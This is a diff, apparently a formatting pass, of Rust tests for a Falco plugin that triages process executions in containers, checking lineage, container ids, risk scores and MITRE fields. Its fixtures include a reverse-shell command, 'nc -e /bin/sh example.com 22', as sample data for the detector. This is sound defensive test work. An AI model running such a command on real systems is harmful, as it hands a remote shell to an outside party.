@@ -105,15 +105,51 @@ struct ThreadsFixture {
 }
 
 /// (tid, pid, ptid, vpid, comm, exe_path, args, container_id)
-type Row = (i64, i64, i64, i64, &'static str, &'static str, &'static [&'static str], &'static str);
+type Row = (
+    i64,
+    i64,
+    i64,
+    i64,
+    &'static str,
+    &'static str,
+    &'static [&'static str],
+    &'static str,
+);
 
 const SHIM_ID: &str = "aaaaaaaaaaaa";
 
 const ROWS: &[Row] = &[
     // Realistic: systemd > containerd-shim > sh (docker exec) > nc (tid 300).
-    (1, 1, 0, 1, "systemd", "/usr/lib/systemd/systemd", &[], "host"),
-    (100, 100, 1, 100, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", &["-namespace", "moby"], "host"),
-    (200, 200, 100, 7, "sh", "/bin/sh", &["-c", "nc -e /bin/sh example.com 22"], SHIM_ID),
+    (
+        1,
+        1,
+        0,
+        1,
+        "systemd",
+        "/usr/lib/systemd/systemd",
+        &[],
+        "host",
+    ),
+    (
+        100,
+        100,
+        1,
+        100,
+        "containerd-shim",
+        "/usr/bin/containerd-shim-runc-v2",
+        &["-namespace", "moby"],
+        "host",
+    ),
+    (
+        200,
+        200,
+        100,
+        7,
+        "sh",
+        "/bin/sh",
+        &["-c", "nc -e /bin/sh example.com 22"],
+        SHIM_ID,
+    ),
     (300, 300, 200, 8, "nc", "/usr/bin/nc.openbsd", &[], SHIM_ID),
     // Host process the container plugin calls "host" although cgroups look like a container.
     (450, 450, 1, 450, "cron", "/usr/sbin/cron", &[], "host"),
@@ -124,7 +160,16 @@ const ROWS: &[Row] = &[
     (700, 700, 701, 700, "a", "/a", &[], ""),
     (701, 701, 700, 701, "b", "/b", &[], ""),
     // Container init (vpid 1) ends the walk inside the container.
-    (800, 800, 1, 800, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", &[], "host"),
+    (
+        800,
+        800,
+        1,
+        800,
+        "containerd-shim",
+        "/usr/bin/containerd-shim-runc-v2",
+        &[],
+        "host",
+    ),
     (801, 801, 800, 1, "tini", "/tini", &[], "cccccccccccc"),
     (802, 802, 801, 5, "sh", "/bin/sh", &[], "cccccccccccc"),
 ];
@@ -143,13 +188,18 @@ impl Plugin for ThreadsFixture {
         let chain: Vec<Row> = (1000..=1020)
             .map(|tid| (tid, tid, tid - 1, tid, "p", "/p", &[][..], ""))
             .collect();
-        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in ROWS.iter().chain(&chain) {
+        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in ROWS.iter().chain(&chain)
+        {
             let mut row = threads.create_entry()?;
             *row.tid = tid;
             *row.pid = pid;
             *row.ptid = ptid;
             *row.vpid = vpid;
-            *row.comm = if tid >= 1000 { CString::new(format!("p{}", tid - 1000))? } else { CString::new(comm)? };
+            *row.comm = if tid >= 1000 {
+                CString::new(format!("p{}", tid - 1000))?
+            } else {
+                CString::new(comm)?
+            };
             *row.exe = CString::new(exe_path)?;
             *row.exe_path = CString::new(exe_path)?;
             *row.container_id = CString::new(container_id)?;
@@ -208,7 +258,8 @@ impl Exec {
             args: b"-e\0/bin/sh\0example.com\0\x32\x32\0",
             comm: c"nc",
             trusted_exepath: "/usr/bin/nc.openbsd",
-            cgroups: format!("cpuset=/docker/{CONTAINER_ID}\0memory=/docker/{CONTAINER_ID}\0").into_bytes(),
+            cgroups: format!("cpuset=/docker/{CONTAINER_ID}\0memory=/docker/{CONTAINER_ID}\0")
+                .into_bytes(),
             env: b"PATH=/usr/bin\0HOME=/root\0",
             tty: 34816,
             flags: 0b1001, // EXE_WRITABLE | EXE_LOWER_LAYER
@@ -249,7 +300,13 @@ impl Exec {
             pgid: Some(Pid(self.tid)),
             gid: Some(Gid(0)),
         };
-        serialize(Event { metadata: EventMetadata { ts: self.ts, tid: self.tid }, params })
+        serialize(Event {
+            metadata: EventMetadata {
+                ts: self.ts,
+                tid: self.tid,
+            },
+            params,
+        })
     }
 }
 
@@ -268,7 +325,10 @@ fn open_exit(ts: u64, tid: i64) -> Vec<u8> {
         dev: Some(0),
         ino: Some(0),
     };
-    serialize(Event { metadata: EventMetadata { ts, tid }, params })
+    serialize(Event {
+        metadata: EventMetadata { ts, tid },
+        params,
+    })
 }
 
 // ---------------------------------------------------------------------------------------
@@ -283,11 +343,19 @@ impl Harness {
         QUEUED_EVENTS.with(|q| *q.borrow_mut() = events.into());
         let mut runner = PluginRunner::new();
         if with_threads {
-            runner.register_plugin(&TEST_THREADS_API, c"").expect("threads fixture");
+            runner
+                .register_plugin(&TEST_THREADS_API, c"")
+                .expect("threads fixture");
         }
-        runner.register_plugin(&TRIAGE_API, config).expect("triage plugin");
-        runner.register_plugin(&TEST_REPLAY_API, c"").expect("replay source");
-        Harness { runner: runner.start_capture().expect("capture") }
+        runner
+            .register_plugin(&TRIAGE_API, config)
+            .expect("triage plugin");
+        runner
+            .register_plugin(&TEST_REPLAY_API, c"")
+            .expect("replay source");
+        Harness {
+            runner: runner.start_capture().expect("capture"),
+        }
     }
 
     fn next(&mut self) -> falco_plugin_runner::Event {
@@ -327,7 +395,11 @@ impl Harness {
 
     fn metric(&mut self, name: &str) -> u64 {
         let full = format!("triage.{name}");
-        let metric = self.runner.get_metrics().into_iter().find(|m| m.name == full);
+        let metric = self
+            .runner
+            .get_metrics()
+            .into_iter()
+            .find(|m| m.name == full);
         match metric.map(|m| m.value) {
             Some(MetricValue::U64(v)) => v,
             other => panic!("{full}: {other:?}"),
@@ -336,7 +408,9 @@ impl Harness {
 }
 
 fn last_lineage() -> Lineage {
-    LAST_LINEAGE.with(|l| l.borrow().clone()).expect("a lineage was computed")
+    LAST_LINEAGE
+        .with(|l| l.borrow().clone())
+        .expect("a lineage was computed")
 }
 
 // ---------------------------------------------------------------------------------------
@@ -349,19 +423,40 @@ fn every_field_on_a_realistic_container_exec() {
     let ev = h.next();
 
     assert_eq!(h.string(&ev, "triage.exe_origin").as_deref(), Some("image"));
-    assert_eq!(h.list(&ev, "triage.exe_flags"), ["EXE_WRITABLE", "EXE_LOWER_LAYER"]);
-    assert_eq!(h.field(&ev, "triage.in_container"), ExtractedField::Bool(true));
-    assert_eq!(h.string(&ev, "triage.container_runtime").as_deref(), Some("docker"));
+    assert_eq!(
+        h.list(&ev, "triage.exe_flags"),
+        ["EXE_WRITABLE", "EXE_LOWER_LAYER"]
+    );
+    assert_eq!(
+        h.field(&ev, "triage.in_container"),
+        ExtractedField::Bool(true)
+    );
+    assert_eq!(
+        h.string(&ev, "triage.container_runtime").as_deref(),
+        Some("docker")
+    );
     // The thread table (container plugin) wins over cgroups.
-    assert_eq!(h.string(&ev, "triage.container_id").as_deref(), Some(SHIM_ID));
+    assert_eq!(
+        h.string(&ev, "triage.container_id").as_deref(),
+        Some(SHIM_ID)
+    );
     assert_eq!(h.list(&ev, "triage.caps_dangerous"), ["CAP_SYS_ADMIN"]);
-    assert_eq!(h.field(&ev, "triage.privileged"), ExtractedField::Bool(false));
-    assert_eq!(h.field(&ev, "triage.interactive"), ExtractedField::Bool(true));
+    assert_eq!(
+        h.field(&ev, "triage.privileged"),
+        ExtractedField::Bool(false)
+    );
+    assert_eq!(
+        h.field(&ev, "triage.interactive"),
+        ExtractedField::Bool(true)
+    );
     assert_eq!(
         h.string(&ev, "triage.lineage").as_deref(),
         Some("systemd > containerd-shim > sh > nc")
     );
-    assert_eq!(h.list(&ev, "triage.ancestors"), ["sh", "containerd-shim", "systemd"]);
+    assert_eq!(
+        h.list(&ev, "triage.ancestors"),
+        ["sh", "containerd-shim", "systemd"]
+    );
 
     // The lineage the analysis saw, args from the nested table included.
     let lineage = last_lineage();
@@ -378,28 +473,66 @@ fn every_field_on_a_realistic_container_exec() {
     // Analysis fields carry exactly what the core says for these facts and this lineage.
     let raw = nc.to_bytes();
     let raw_event = RawEvent::from(&raw).expect("raw event");
-    let typed = raw_event.load::<PPME_SYSCALL_EXECVE_19_X>().expect("execve");
+    let typed = raw_event
+        .load::<PPME_SYSCALL_EXECVE_19_X>()
+        .expect("execve");
     let facts = facts::from_execve(&typed.params, &DecodeLimits::default());
     let verdict = analysis::analyze(&facts, &lineage);
-    assert_eq!(h.field(&ev, "triage.risk"), ExtractedField::U64(u64::from(verdict.risk)));
-    assert_eq!(h.string(&ev, "triage.severity").as_deref(), Some(verdict.severity.as_str()));
-    assert_eq!(h.string(&ev, "triage.category").as_deref(), Some(verdict.category));
-    assert_eq!(h.string(&ev, "triage.summary").as_deref(), Some(verdict.summary.as_str()));
+    assert_eq!(
+        h.field(&ev, "triage.risk"),
+        ExtractedField::U64(u64::from(verdict.risk))
+    );
+    assert_eq!(
+        h.string(&ev, "triage.severity").as_deref(),
+        Some(verdict.severity.as_str())
+    );
+    assert_eq!(
+        h.string(&ev, "triage.category").as_deref(),
+        Some(verdict.category)
+    );
+    assert_eq!(
+        h.string(&ev, "triage.summary").as_deref(),
+        Some(verdict.summary.as_str())
+    );
     let ids = |v: Vec<&str>| v.into_iter().map(String::from).collect::<Vec<_>>();
-    assert_eq!(h.list(&ev, "triage.signals"), ids(verdict.hits.iter().map(|x| x.signal.id).collect()));
-    assert_eq!(h.list(&ev, "triage.mitre.techniques"), ids(verdict.techniques.iter().map(|x| x.id).collect()));
-    assert_eq!(h.list(&ev, "triage.mitre.tactics"), ids(verdict.tactics.iter().map(|x| x.id).collect()));
-    assert_eq!(h.list(&ev, "triage.mitigations"), ids(verdict.mitigations.iter().map(|x| x.text).collect()));
-    assert_eq!(h.string(&ev, "triage.mitigation").as_deref(), verdict.mitigations.first().map(|m| m.text));
+    assert_eq!(
+        h.list(&ev, "triage.signals"),
+        ids(verdict.hits.iter().map(|x| x.signal.id).collect())
+    );
+    assert_eq!(
+        h.list(&ev, "triage.mitre.techniques"),
+        ids(verdict.techniques.iter().map(|x| x.id).collect())
+    );
+    assert_eq!(
+        h.list(&ev, "triage.mitre.tactics"),
+        ids(verdict.tactics.iter().map(|x| x.id).collect())
+    );
+    assert_eq!(
+        h.list(&ev, "triage.mitigations"),
+        ids(verdict.mitigations.iter().map(|x| x.text).collect())
+    );
+    assert_eq!(
+        h.string(&ev, "triage.mitigation").as_deref(),
+        verdict.mitigations.first().map(|m| m.text)
+    );
     assert_eq!(h.list(&ev, "triage.evidence"), verdict.evidence);
-    assert_eq!(h.field(&ev, "triage.test_activity"), ExtractedField::Bool(verdict.test_activity));
+    assert_eq!(
+        h.field(&ev, "triage.test_activity"),
+        ExtractedField::Bool(verdict.test_activity)
+    );
     let report = h.string(&ev, "triage.report").expect("report");
     let expected = crate::report::json_report(&facts, &lineage, &verdict);
-    assert_eq!(serde_json::from_str::<serde_json::Value>(&report).expect("JSON"), expected);
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(&report).expect("JSON"),
+        expected
+    );
     assert!(!report.contains('\n'), "compact JSON");
 
     // 22 fields, one analysis, one lineage walk (own entry + 3 ancestors).
-    assert_eq!(h.metric("field_extractions"), super::field_names().count() as u64);
+    assert_eq!(
+        h.metric("field_extractions"),
+        super::field_names().count() as u64
+    );
     assert_eq!(h.metric("events_analysed"), 1);
     assert_eq!(h.metric("lineage_reads"), 4);
     assert_eq!(h.metric("decode_failures"), 0);
@@ -411,14 +544,20 @@ fn every_declared_field_extracts() {
     let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
     let ev = h.next();
     for name in super::field_names() {
-        assert!(matches!(h.runner.extract_field(&ev, name), Some(Ok(_))), "{name}");
+        assert!(
+            matches!(h.runner.extract_field(&ev, name), Some(Ok(_))),
+            "{name}"
+        );
     }
     assert_eq!(h.metric("events_analysed"), 1);
 }
 
 #[test]
 fn each_event_is_analysed_once() {
-    let events = vec![Exec::nc(1, 300, 200).to_bytes(), Exec::nc(2, 300, 200).to_bytes()];
+    let events = vec![
+        Exec::nc(1, 300, 200).to_bytes(),
+        Exec::nc(2, 300, 200).to_bytes(),
+    ];
     let mut h = Harness::new(c"{}", true, events);
     let first = h.next();
     let second = h.next();
@@ -451,14 +590,23 @@ fn container_id_falls_back_to_cgroups_and_respects_host() {
     let mut h = Harness::new(
         c"{}",
         true,
-        vec![Exec::nc(1, 400, 200).to_bytes(), Exec::nc(2, 450, 1).to_bytes()],
+        vec![
+            Exec::nc(1, 400, 200).to_bytes(),
+            Exec::nc(2, 450, 1).to_bytes(),
+        ],
     );
     let ev = h.next();
-    assert_eq!(h.string(&ev, "triage.container_id").as_deref(), Some(&CONTAINER_ID[..12]));
+    assert_eq!(
+        h.string(&ev, "triage.container_id").as_deref(),
+        Some(&CONTAINER_ID[..12])
+    );
     // The container plugin says host: no container id, whatever the cgroup path looks like.
     let ev = h.next();
     assert_eq!(h.string(&ev, "triage.container_id"), None);
-    assert_eq!(h.string(&ev, "triage.lineage").as_deref(), Some("systemd > nc"));
+    assert_eq!(
+        h.string(&ev, "triage.lineage").as_deref(),
+        Some("systemd > nc")
+    );
 }
 
 #[test]
@@ -468,7 +616,10 @@ fn without_a_thread_table_lineage_is_unknown_and_cgroups_give_the_container() {
     assert_eq!(h.string(&ev, "triage.lineage"), None);
     assert!(h.list(&ev, "triage.ancestors").is_empty());
     assert!(!last_lineage().known);
-    assert_eq!(h.string(&ev, "triage.container_id").as_deref(), Some(&CONTAINER_ID[..12]));
+    assert_eq!(
+        h.string(&ev, "triage.container_id").as_deref(),
+        Some(&CONTAINER_ID[..12])
+    );
     assert_eq!(h.metric("lineage_reads"), 0);
 }
 
@@ -477,8 +628,14 @@ fn lineage_depth_is_bounded() {
     let ev = Exec::nc(1, 1021, 1020).to_bytes();
     let mut h = Harness::new(c"{}", true, vec![ev.clone()]);
     let e = h.next();
-    assert_eq!(h.list(&e, "triage.ancestors"), ["p20", "p19", "p18", "p17", "p16"]);
-    assert_eq!(h.string(&e, "triage.lineage").as_deref(), Some("p16 > p17 > p18 > p19 > p20 > nc"));
+    assert_eq!(
+        h.list(&e, "triage.ancestors"),
+        ["p20", "p19", "p18", "p17", "p16"]
+    );
+    assert_eq!(
+        h.string(&e, "triage.lineage").as_deref(),
+        Some("p16 > p17 > p18 > p19 > p20 > nc")
+    );
 
     let mut h = Harness::new(c"{\"lineage_depth\": 2}", true, vec![ev.clone()]);
     let e = h.next();
@@ -512,7 +669,10 @@ fn lineage_stops_at_placeholders_missing_parents_cycles_and_container_init() {
     assert_eq!(h.list(&e, "triage.ancestors"), ["a", "b"]);
     let e = h.next();
     assert_eq!(h.list(&e, "triage.ancestors"), ["sh", "tini"]);
-    assert_eq!(h.string(&e, "triage.container_id").as_deref(), Some(&CONTAINER_ID[..12]));
+    assert_eq!(
+        h.string(&e, "triage.container_id").as_deref(),
+        Some(&CONTAINER_ID[..12])
+    );
 }
 
 #[test]
@@ -522,8 +682,14 @@ fn attacker_controlled_comm_is_escaped_in_lineage() {
     let mut h = Harness::new(c"{}", true, vec![nc.to_bytes()]);
     let e = h.next();
     let lineage = h.string(&e, "triage.lineage").expect("lineage");
-    assert!(!lineage.contains('\x1b') && !lineage.contains('\n'), "{lineage:?}");
-    assert!(lineage.starts_with("systemd > containerd-shim > sh > x"), "{lineage:?}");
+    assert!(
+        !lineage.contains('\x1b') && !lineage.contains('\n'),
+        "{lineage:?}"
+    );
+    assert!(
+        lineage.starts_with("systemd > containerd-shim > sh > x"),
+        "{lineage:?}"
+    );
 }
 
 #[test]
@@ -532,16 +698,26 @@ fn a_panic_in_an_extractor_is_an_error_not_an_unwind() {
     let e = h.next();
     assert!(matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)));
     PANIC_IN_EXTRACTOR.with(|p| p.set(true));
-    assert!(matches!(h.runner.extract_field(&e, "triage.summary"), Some(Err(_))));
+    assert!(matches!(
+        h.runner.extract_field(&e, "triage.summary"),
+        Some(Err(_))
+    ));
     assert_eq!(h.metric("panics_caught"), 1);
     // The plugin keeps working; the cache was dropped, so the event is analysed again.
-    assert!(matches!(h.field(&e, "triage.summary"), ExtractedField::String(_)));
+    assert!(matches!(
+        h.field(&e, "triage.summary"),
+        ExtractedField::String(_)
+    ));
     assert_eq!(h.metric("events_analysed"), 2);
 }
 
 #[test]
 fn truncations_are_counted_and_limits_apply() {
-    let mut h = Harness::new(c"{\"max_args\": 2, \"max_env\": 0}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
+    let mut h = Harness::new(
+        c"{\"max_args\": 2, \"max_env\": 0}",
+        true,
+        vec![Exec::nc(1, 300, 200).to_bytes()],
+    );
     let e = h.next();
     h.field(&e, "triage.risk");
     assert_eq!(h.metric("truncations"), 1);
@@ -556,10 +732,18 @@ fn truncations_are_counted_and_limits_apply() {
 fn config_forms_are_accepted() {
     // A YAML map arrives as a JSON object; `init_config: {}` as "null"; absent as "{}"
     // (libsinsp fills it in; the runner does not).
-    for config in [c"{\"max_args\": 64, \"lineage_depth\": 3}", c"{}", c"null", c" null "] {
+    for config in [
+        c"{\"max_args\": 64, \"lineage_depth\": 3}",
+        c"{}",
+        c"null",
+        c" null ",
+    ] {
         let mut h = Harness::new(config, true, vec![Exec::nc(1, 300, 200).to_bytes()]);
         let e = h.next();
-        assert!(matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)), "{config:?}");
+        assert!(
+            matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)),
+            "{config:?}"
+        );
     }
 }
 
@@ -574,7 +758,12 @@ fn bad_configs_fail_init_naming_the_key() {
     ];
     for (config, key) in cases {
         let mut runner = PluginRunner::new();
-        let err = runner.register_plugin(&TRIAGE_API, config).expect_err("bad config");
-        assert!(err.to_string().contains(&format!("`{key}`")), "{config:?}: {err}");
+        let err = runner
+            .register_plugin(&TRIAGE_API, config)
+            .expect_err("bad config");
+        assert!(
+            err.to_string().contains(&format!("`{key}`")),
+            "{config:?}: {err}"
+        );
     }
 }
